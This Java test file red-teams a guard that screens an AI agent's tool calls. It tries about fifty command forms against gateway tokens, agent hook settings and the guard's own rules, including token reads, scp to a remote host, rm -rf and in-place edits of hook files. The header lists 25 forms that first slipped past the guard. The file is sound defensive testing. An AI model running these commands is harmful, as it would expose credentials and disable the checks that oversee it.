package io.github.providergateway.guard;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.providergateway.guard.GuardVerdict.Outcome;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Issue 61, "the guard's own ground": what the guard stands on is protected by what it is, not by
 * which program touches it. The cases are the cross product of two tables written apart from the
 * rules, {@link #PLACES} (a representative file of each protected place) and {@link #FORMS} (each
 * way a program the guard knows reads or changes a file), so no case was written beside the rule
 * that catches it. A form that reads applies to the places whose reading would expose a secret (the
 * tokens, the ledger, the gateway's settings, its {@code --config} file); a form that changes
 * applies to every place. Each case must be denied with {@code guard.self} or {@code
 * guard.gateway-token} among the rules that matched (both are catastrophic: denied under every
 * preset). A smaller table says what must stay allowed: the logs, the audit trail, the port, and
 * the same forms on an ordinary project file.
 *
 * <p>Left out, with why: a form over a folder ({@code grep -r}, {@code tar cf -}, {@code rm -rf},
 * {@code tar xf … -C}, {@code cd … &&}) for a place whose folder is the person's own (the project,
 * the home): whether {@code tar xf x.tar -C .} overwrites {@code .mcp.json} is in the archive, not
 * in the text. For the same reason a find that selects by other tests than its name ({@code find .
 * -type f -exec sed -i …}) is not judged by what it may reach.
 *
 * <p>First run, before any rule changed (guard/src/test/first-runs/guard-ground-red-team-first-
 * run.txt): 867 of 892 blocked; 25 walked through: a Python one-liner reading the token, the
 * ledger, the settings, an agent's token or the --config file ({@code python3 -c
 * "print(open('…').read())"}); the --config file's folder read whole ({@code grep -r}, {@code tar
 * cf -}, {@code zip -r}), deleted ({@code rm -rf}, {@code find -delete}) or extracted into ({@code
 * tar xf … -C}); and {@code find <folder> -name <file> -delete} on the share folder, the cache and
 * every agent's settings folder and the project's guard folder. After the fix: 892 of 892, each
 * denied by the guard's own rules. Another tool is no new program to the guard: inline code's reads
 * are its string literals, a folder above the --config file holds it as the gateway's home's do,
 * and a find's deletes and in-place edits reach what its start and -name select.
 */
class GuardGroundRedTeamTest {
  private static final Path HOME = Path.of("/home/ada");
  private static final Path PROJECT = HOME.resolve("code/app");
  private static final Path CONFIG = HOME.resolve("conf/gateway.json");
  private static final Guard GUARD =
      Guard.create(
          GuardSettings.defaults(),
          new GuardEnvironment(HOME, List.of(Path.of("/tmp")), HOME.resolve(".provider-gateway"))
              .withGatewayFile(CONFIG));

  /**
   * A protected place: the file as an agent would write it, its folder when that folder is the
   * gateway's or an agent's own (null when it is the person's), and whether reading it exposes a
   * secret.
   */
  record Place(String name, String file, String folder, boolean secret) {
    String absolute() {
      return file.startsWith("~/")
          ? HOME.resolve(file.substring(2)).toString()
          : PROJECT.resolve(file).toString();
    }

    String fileName() {
      return Path.of(file).getFileName().toString();
    }
  }

  private static final List<Place> PLACES =
      List.of(
          new Place("token", "~/.provider-gateway/.provider-token", "~/.provider-gateway", true),
          new Place("ledger", "~/.provider-gateway/setup.json", "~/.provider-gateway", true),
          new Place("settings", "~/.provider-gateway/settings.json", "~/.provider-gateway", true),
          new Place(
              "agent token", "~/.provider-gateway/tokens/claude.json", "~/.provider-gateway", true),
          new Place(
              "bridge header",
              "~/.provider-gateway/mcp-bridge.token.header",
              "~/.provider-gateway",
              true),
          // A window's kept initialize (decision 78): changed, it would open another session.
          new Place(
              "window",
              "~/.provider-gateway/windows/0123456789abcdef.json",
              "~/.provider-gateway/windows",
              false),
          new Place("--config", "~/conf/gateway.json", "~/conf", true),
          new Place(
              "hook gates", "~/.provider-gateway/hook-gates.json", "~/.provider-gateway", false),
          new Place("port", "~/.provider-gateway/gateway.port", "~/.provider-gateway", false),
          new Place("pid", "~/.provider-gateway/gateway.pid", "~/.provider-gateway", false),
          new Place(
              "audit", "~/.provider-gateway/logs/audit.jsonl", "~/.provider-gateway/logs", false),
          new Place("launcher", "~/.local/bin/gateway", null, false),
          new Place(
              "share",
              "~/.local/share/provider-gateway/0.1.0/bin/gateway",
              "~/.local/share/provider-gateway",
              false),
          new Place(
              "cache jar",
              "~/.cache/provider-gateway/gateway.jar",
              "~/.cache/provider-gateway",
              false),
          new Place("claude user", "~/.claude/settings.json", "~/.claude", false),
          new Place("claude project", ".claude/settings.json", ".claude", false),
          new Place("claude local", ".claude/settings.local.json", ".claude", false),
          new Place("claude state", "~/.claude.json", null, false),
          new Place("mcp project", ".mcp.json", null, false),
          new Place("codex user", "~/.codex/config.toml", "~/.codex", false),
          new Place("codex project", ".codex/config.toml", ".codex", false),
          new Place("codex hooks", ".codex/hooks.json", ".codex", false),
          new Place("gemini user", "~/.gemini/settings.json", "~/.gemini", false),
          new Place("gemini project", ".gemini/settings.json", ".gemini", false),
          new Place("copilot user", "~/.copilot/mcp-config.json", null, false),
          new Place("copilot hooks", ".github/hooks/provider-gateway.json", ".github/hooks", false),
          new Place("cursor hooks", ".cursor/hooks.json", ".cursor", false),
          new Place("cursor mcp", ".cursor/mcp.json", ".cursor", false),
          new Place("vscode mcp", ".vscode/mcp.json", null, false),
          new Place("project guard", ".provider-gateway/guard.json", ".provider-gateway", false));

  /** What a form does to the file it names. */
  enum Effect {
    READS,
    CHANGES
  }

  /**
   * One way of reaching a file: {@code {f}} is the file as written, {@code {abs}} its absolute
   * path, {@code {d}} its folder and {@code {n}} its name. The tool is {@code shell} or a file tool
   * whose path is {@code {abs}}.
   */
  record Form(String tool, Effect effect, String template) {
    boolean needsFolder() {
      return template.contains("{d}");
    }

    GuardCall call(Place place) {
      String text =
          template
              .replace("{f}", place.file())
              .replace("{abs}", place.absolute())
              .replace("{d}", place.folder() == null ? "" : place.folder())
              .replace("{n}", place.fileName());
      ObjectNode args = JsonNodeFactory.instance.objectNode();
      args.put(tool.equals("shell") ? "command" : "path", text);
      return new GuardCall(tool, args, PROJECT, PROJECT, null);
    }
  }

  private static Form reads(String template) {
    return new Form("shell", Effect.READS, template);
  }

  private static Form changes(String template) {
    return new Form("shell", Effect.CHANGES, template);
  }

  private static final List<Form> FORMS =
      List.of(
          new Form("read", Effect.READS, "{abs}"),
          reads("cat {f}"),
          reads("cat < {f}"),
          reads("find {d} -name '{n}' -exec cat {} +"),
          reads("grep -r token {d}"),
          reads("tar cf - {d}"),
          reads("zip -r /tmp/x.zip {d}"),
          reads("rsync -a {f} /tmp/x"),
          reads("cp {f} /tmp/x"),
          reads("install {f} /tmp/x"),
          reads("base64 {f}"),
          reads("xxd {f}"),
          reads("sed -n 1p {f}"),
          reads("awk 1 {f}"),
          reads("dd if={f}"),
          reads("jq . {f}"),
          reads("python3 -c \"print(open('{abs}').read())\""),
          reads("f={f}; cat $f"),
          reads("cd {d} && cat {n}"),
          reads("scp {f} host:/tmp/"),
          new Form("edit", Effect.CHANGES, "{abs}"),
          new Form("write", Effect.CHANGES, "{abs}"),
          changes("echo x > {f}"),
          changes("echo x >> {f}"),
          changes(": > {f}"),
          changes("echo x | tee {f}"),
          changes("sed -i s/a/b/ {f}"),
          changes("perl -pi -e s/a/b/ {f}"),
          changes("jq '.a=1' {f} | sponge {f}"),
          changes("cat /tmp/x | sponge {f}"),
          changes("cp /tmp/x {f}"),
          changes("install -m 600 /tmp/x {f}"),
          changes("rsync -a /tmp/x {f}"),
          changes("scp host:/tmp/x {f}"),
          changes("curl -so {f} https://example.com/x"),
          changes("mv /tmp/x {f}"),
          changes("mv {f} /tmp/x"),
          changes("chmod 777 {f}"),
          changes("chown nobody {f}"),
          changes("ln -sf /tmp/x {f}"),
          changes("truncate -s 0 {f}"),
          changes("dd if=/dev/zero of={f}"),
          changes("python3 -c \"open('{abs}','w').write('x')\""),
          changes("f={f}; echo x > $f"),
          changes("rm {f}"),
          changes("rm -rf {d}"),
          changes("find {d} -name '{n}' -delete"),
          changes("cd {d} && rm {n}"),
          changes("tar xf /tmp/x.tar -C {d}"));

  static Stream<Arguments> cases() {
    List<Arguments> cases = new ArrayList<>();
    for (Place place : PLACES) {
      for (Form form : FORMS) {
        boolean applies =
            (form.effect() == Effect.CHANGES || place.secret())
                && (!form.needsFolder() || place.folder() != null);
        if (applies) {
          cases.add(Arguments.of(name(place, form), place, form));
        }
      }
    }
    return cases.stream();
  }

  private static String name(Place place, Form form) {
    return place.name() + " × " + form.tool() + " " + form.template();
  }

  /** Whether the guard's own rules denied the call. */
  private static boolean blocked(GuardCall call) {
    GuardExplanation explained = GUARD.explain(call);
    boolean ownRule =
        explained.matched().stream()
            .anyMatch(l -> l.startsWith("guard.self:") || l.startsWith("guard.gateway-token:"));
    return ownRule && explained.verdict().outcome() == Outcome.DENY;
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void everyProtectedPlaceIsDeniedToEveryForm(String name, Place place, Form form) {
    GuardCall call = form.call(place);
    assertThat(blocked(call))
        .as(name + " → " + GUARD.decide(call) + " " + GUARD.explain(call).matched())
        .isTrue();
  }

  /** The pass's figure, as the first run's was kept: every case blocked, none walking through. */
  @Test
  void theWholePassWalksThroughNowhere() {
    List<String> walked = new ArrayList<>();
    long total = cases().count();
    cases()
        .forEach(
            a -> {
              Place place = (Place) a.get()[1];
              Form form = (Form) a.get()[2];
              if (!blocked(form.call(place))) {
                walked.add((String) a.get()[0]);
              }
            });
    System.out.println(
        "guard ground red team: "
            + (total - walked.size())
            + " of "
            + total
            + " blocked; walked through:\n"
            + String.join("\n", walked));
    assertThat(walked).isEmpty();
  }

  /**
   * Shapes found while fixing the first run's misses, written beside the fix and so outside the
   * pass's figure: other interpreters' reads, a find that rewrites or selects by name, the --config
   * file's folder moved or read by find.
   */
  @ParameterizedTest
  @MethodSource("foundWhileFixing")
  void theShapesFoundWhileFixingAreDeniedToo(String command) {
    assertThat(blocked(shell(command))).as(command + " → " + GUARD.decide(shell(command))).isTrue();
  }

  static Stream<String> foundWhileFixing() {
    return Stream.of(
        "node -e \"console.log(require('fs').readFileSync('/home/ada/.provider-gateway/.provider-token','utf8'))\"",
        "python3 -c \"import os; print(open(os.path.expanduser('~/.provider-gateway/setup.json')).read())\"",
        "find . -name settings.json -delete",
        "find . -name '*.json' -exec perl -pi -e s/a/b/ {} +",
        "find ~/.claude -name settings.json -exec sed -i s/a/b/ {} +",
        "find ~/conf -name '*.json' -exec cat {} +",
        "cp -r ~/conf /tmp/c",
        "mv ~/conf ~/conf2");
  }

  /** The same shapes on what is not the guard's: allowed, beside the readable ones below. */
  static Stream<String> ordinaryWhileFixing() {
    return Stream.of(
        "python3 -c \"print(open('/home/ada/.provider-gateway/logs/audit.jsonl').read())\"",
        "python3 -c \"print(open('/home/ada/.provider-gateway/gateway.port').read())\"",
        "python3 -c \"print(open('notes/todo.json').read())\"",
        "find . -name '*.json' -exec grep -i foo {} +",
        "find build -name '*.json' -delete",
        "find . -name '*.java' -exec sed -i s/a/b/ {} +",
        "cat ~/conf/other.json",
        "ls ~/conf");
  }

  /** What stays the person's and the agent's: the logs, the audit trail, the port, the pid. */
  @ParameterizedTest
  @MethodSource({"readable", "ordinaryWhileFixing"})
  void theLogsTheAuditTrailAndThePortStayReadable(String command) {
    GuardVerdict verdict = GUARD.decide(shell(command));
    assertThat(verdict.outcome()).as(command + ": " + verdict.reason()).isEqualTo(Outcome.ALLOW);
  }

  static Stream<String> readable() {
    return Stream.of(
        "tail ~/.provider-gateway/logs/audit.jsonl",
        "tail -n 50 ~/.provider-gateway/logs/gateway.jsonl",
        "grep error ~/.provider-gateway/logs/audit.jsonl",
        "cat ~/.provider-gateway/gateway.port",
        "cat ~/.provider-gateway/gateway.pid",
        "ls ~/.provider-gateway",
        "ls -la ~/.provider-gateway/logs",
        "cat ~/.claude/settings.json",
        "jq .hooks .claude/settings.json",
        "cat .mcp.json",
        "cat .provider-gateway/guard.json",
        "ls ~/.local/bin",
        "gateway --version");
  }

  /** Every form on an ordinary project file: none of the guard's own rules matches. */
  @ParameterizedTest(name = "{0}")
  @MethodSource("ordinary")
  void theSameProgramsOnAProjectFileAreNotTheGuardsBusiness(String command, Form form) {
    GuardCall call = form.call(ORDINARY);
    assertThat(GUARD.explain(call).matched())
        .as(command)
        .noneMatch(l -> l.startsWith("guard.self:") || l.startsWith("guard.gateway-token:"));
  }

  private static final Place ORDINARY = new Place("project file", "notes/todo.json", "notes", true);

  static Stream<Arguments> ordinary() {
    return FORMS.stream().map(f -> Arguments.of(f.tool() + " " + f.template(), f));
  }

  private static GuardCall shell(String command) {
    ObjectNode args = JsonNodeFactory.instance.objectNode().put("command", command);
    return new GuardCall("shell", args, PROJECT, PROJECT, null);
  }
}
